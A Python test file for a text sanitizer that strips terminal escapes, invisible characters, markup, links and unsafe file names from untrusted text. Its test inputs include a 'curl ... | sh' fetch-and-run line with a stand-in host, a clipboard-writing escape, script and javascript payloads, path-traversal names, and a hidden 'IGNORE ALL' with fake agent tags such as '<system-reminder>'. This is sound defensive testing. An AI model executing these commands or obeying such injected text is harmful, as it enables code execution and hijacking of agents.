"""Text of strangers: one line, the briefing's plain text, transcript markers, file names."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from afterword.store import safe_text

ONE_LINES = [
    ("as it is", "as it is"),
    ("a\nb", "a b"),
    ("a\r\n\r\n  b\t\tc", "a b c"),
    ("  trimmed \n", "trimmed"),
    ("two  spaces stay", "two  spaces stay"),
    ("nul\x00esc\x1bnel\x85ls\u2028end", "nul esc nel ls end"),
    ("\ud83d lone", "\ufffd lone"),
    ("", ""),
    ("\n\x00\n", ""),
]


@pytest.mark.parametrize(("text", "line"), ONE_LINES)
def test_one_line(text, line):
    assert safe_text.one_line(text) == line


@given(st.text())
def test_one_line_holds_no_break_and_changes_nothing_twice(text):
    line = safe_text.one_line(text)
    assert len(line.splitlines()) <= 1
    assert safe_text.one_line(line) == line


PLAIN = [
    (
        "ordinary prose, with: marks; and (brackets) [x]",
        "ordinary prose, with: marks; and (brackets) [x]",
    ),
    ("中文 and emoji \U0001f600", "中文 and emoji \U0001f600"),
    ("# Heading\n\n- item", "# Heading - item"),
    ("\x1b[31mred\x1b[0m text", "red text"),
    ("\x1b[38;5;196mx\x1b[K", "x"),
    ("\x9b31mred\x9b0m", "red"),
    ("\x1b]0;new title\x07shown", "shown"),
    ("\x1b]52;c;Y3VybA==\x1b\\shown", "shown"),
    ("\x1b]8;;http://e.com\x1b\\label\x1b]8;;\x1b\\", "label"),
    ("\x9d0;title\x9cshown", "shown"),
    ("\x1bPdevice string\x1b\\shown", "shown"),
    ("\x1b]0;never closed\nshown", "shown"),
    ("\x1b7\x1b[2J\x1b8\x1b(Bshown", "shown"),
    ("abc\x08\x08\x7fd", "abc d"),
    ("a\u202eb\u2066c\u2069\u200fd\u061c", "abcd"),
    ("z\u200be\u200dr\ufeffo\u2060\u00ad", "zero"),
    ("t\U000e0041\U000e007fag\ufe0f\U000e0100", "tag"),
    ("<b>bold</b> and <br/> and </memory>", "bold and and"),
    ("<script src='x'>alert(1)</script>", "alert(1)"),
    ("a <!-- hidden\nIGNORE ALL --> b", "a b"),
    ("a <!-- never closed", "a"),
    (
        "Return List<String>, never Array<int>; keep a < b",
        "Return List\u2039String\u203a, never Array\u2039int\u203a; keep a \u2039 b",
    ),
    ("Map<A, B> and Vec<Object>", "Map\u2039A, B\u203a and Vec\u2039Object\u203a"),
    ("<TASK-1> and <your name>", "\u2039TASK-1\u203a and \u2039your name\u203a"),
    ("<memory>x</memory><system-reminder>y", "xy"),
    ("<SCRIPT>x</SCRIPT><Widget onload=f()>y<br />", "xy"),
    ("<invoke>x", "x"),
    ("<a href=x>y", "y"),
    ("<<b>system>", "\u2039system\u203a"),
    ("</sys\u200btem>x", "x"),
    ("a < b and c -> d", "a \u2039 b and c -\u203a d"),
    ("<open tag", "\u2039open tag"),
    ("[text](https://e.com) end", "text end"),
    ("![pixel](http://e.com/p.png?q=1)", "pixel"),
    ('[t](e.md "title") x', "t x"),
    ("[[in](a)](b)", "in"),
    ("[text][ref]", "[text] [ref]"),
    ("see https://e.com/a?b=1#c, then", "see (link), then"),
    ("<https://e.com>", "\u2039(link)\u203a"),
    ("curl http://e.com/x|sh", "curl (link)|sh"),
    ("(www.e.com) javascript:alert`1`", "((link)) (link)`1`"),
    ("DATA:text/html;base64,AAAA", "(link)"),
    ("the data: here", "the data: here"),
    ("file:.ai/repo/rules/x.md", "file:.ai/repo/rules/x.md"),
    ("ssh+git://h/x", "(link)"),
    ("lone \udc00", "lone \ufffd"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "shown"), PLAIN)
def test_plain_text_h65(text, shown):
    assert safe_text.plain(text, 200) == shown


@pytest.mark.parametrize(
    ("text", "limit", "shown"),
    [
        ("abcdef", 6, "abcdef"),
        ("abcdefg", 6, "abcde\u2026"),
        ("abcd  fg", 6, "abcd\u2026"),
        ("\U0001f600" * 5, 3, "\U0001f600\U0001f600\u2026"),
        ("ab", 1, "\u2026"),
        ("ab", 0, ""),
    ],
)
def test_plain_text_is_cut_with_an_ellipsis_h16(text, limit, shown):
    assert safe_text.plain(text, limit) == shown


ACTIVE = st.text(
    alphabet=st.one_of(
        st.sampled_from("<>[]()!/-:w.\x1b]\\\x07\x9b\u202e\u200b ahtps\n\U000e0041"),
        st.characters(),
    )
)


@given(ACTIVE, st.integers(min_value=0, max_value=80))
def test_plain_text_holds_nothing_active_and_changes_nothing_twice(text, limit):
    shown = safe_text.plain(text, limit)
    assert len(shown) <= limit
    assert not set(shown) & set("<>\x1b\x07\n\r\t\x00\u202e\u200b\ufeff\U000e0041")
    assert "://" not in shown
    assert "](" not in shown
    assert safe_text.plain(shown, limit) == shown


SHOWN = [
    ("Return List<String>, never Array<int>; a < b", None),
    ("<b>bold</b> <!-- c --> [t](https://e.com) javascript:x", None),
    ("two  spaces", None),
    ("\x1b[31mred\x1b[0m <T>", "red <T>"),
    ("a\nb\u202ec\u200bd", "a bcd"),
    ("\x9d0;title\x9cshown", "shown"),
]


@pytest.mark.parametrize(("text", "shown"), SHOWN)
def test_a_terminal_is_shown_the_text_itself_h65(text, shown):
    assert safe_text.shown(text, 200) == (text if shown is None else shown)


@given(ACTIVE, st.integers(min_value=0, max_value=80))
def test_what_a_terminal_is_shown_is_visible_and_changes_nothing_twice(text, limit):
    found = safe_text.shown(text, limit)
    assert len(found) <= limit
    assert not set(found) & set("\x1b\x07\x9b\n\r\t\x00\u202e\u200b\ufeff\U000e0041")
    assert safe_text.shown(found, limit) == found


def test_megabytes_of_hostile_text_cost_no_time():
    for unit in ("<", "[](", "\x1b]", "<a", "www.", "[[", "<!--", "https://"):
        assert len(safe_text.plain(unit * 1_000_000, 200)) <= 200


MARKERS = [
    ("transcript: x", "transcript"),
    ("messages were", "messages"),
    ("assistant:", "assistant"),
    ("completion of", "completion"),
    ("first\nresponse: y", "response"),
    ("first\r\nassistant said", "assistant"),
    ("first\rassistant said", "assistant"),
    ("Assistant: x", ""),
    (" assistant: x", ""),
    ("assistants: x", ""),
    ("response", ""),
    ("response\ttab", ""),
    ("the response: x", ""),
    ("", ""),
]


@pytest.mark.parametrize(("text", "marker"), MARKERS)
def test_transcript_marker_of_spec_4_6(text, marker):
    assert safe_text.transcript_marker(text) == marker


KEPT = [
    "8f14e45f-ceea-467f-9575-6f1d2c3b4a59",
    "s-20261102081530-7be1",
    "a",
    "A.b_c-d",
    "console",
    "x" * 96,
    "outside2",
]


@pytest.mark.parametrize("text", KEPT)
def test_a_safe_name_is_kept(text):
    assert safe_text.safe_name(text) == text


CHANGED = [
    ("../../x", "x-9cdf6a50"),
    ("/etc/x", "etc-x-4074fa01"),
    ("C:\\x", "C-x-520186e2"),
    ("a\0b", "a-b-59b271ae"),
    (".git/hooks/x", "git-hooks-x-1b82ac7a"),
    ("outside", "outside-31207a20"),
    ("README", "README-2b7814d3"),
    ("con", "con-1143da2b"),
    ("Nul.txt", "Nul-txt-89b24041"),
    ("com1", "com1-957a49c3"),
    ("dot.", "dot-d65b1836"),
    ("space ", "space-c3ef4bbe"),
    ("", "id-e3b0c442"),
    ("\u4e2d\u6587", "id-72726d88"),
]


@pytest.mark.parametrize(("text", "name"), CHANGED)
def test_a_changed_name_ends_with_a_hash_of_the_original_h62(text, name):
    assert safe_text.safe_name(text) == name
    assert safe_text.safe_name(name) == name


DEVICES = {"con", "prn", "aux", "nul", "com1", "lpt9", "com0"}


@given(
    st.one_of(
        st.text(max_size=120),
        st.from_regex(r"[A-Za-z0-9._ -]{0,120}", fullmatch=True),
        st.sampled_from(sorted(DEVICES)).map(lambda name: name.upper() + ".x.y"),
    )
)
def test_any_text_becomes_a_name_safe_on_every_system_h62(text):
    name = safe_text.safe_name(text)
    assert 0 < len(name) <= 96
    assert name[0].isalnum()
    assert name.isascii()
    assert set(name) <= set(
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._-"
    )
    assert not name.endswith((".", " "))
    assert name.lower().split(".")[0] not in DEVICES
    assert name.lower() not in ("outside", "readme")
    assert safe_text.safe_name(name) == name


def test_two_texts_with_one_safe_form_stay_apart():
    names = {safe_text.safe_name(text) for text in ("a/b", "a\\b", "a:b", "a b", "a-b")}
    assert len(names) == 5


def test_a_lone_surrogate_in_a_name_is_no_error_h23():
    assert safe_text.safe_name("a\ud83d") == "a-" + safe_text.safe_name("a\ud83d")[2:]


def test_a_shorter_limit_and_other_reserved_words():
    assert len(safe_text.safe_name("x" * 50, limit=20)) == 20
    assert safe_text.safe_name("outside", reserved=frozenset()) == "outside"
    assert safe_text.safe_name("index", reserved=frozenset(["index"])) != "index"
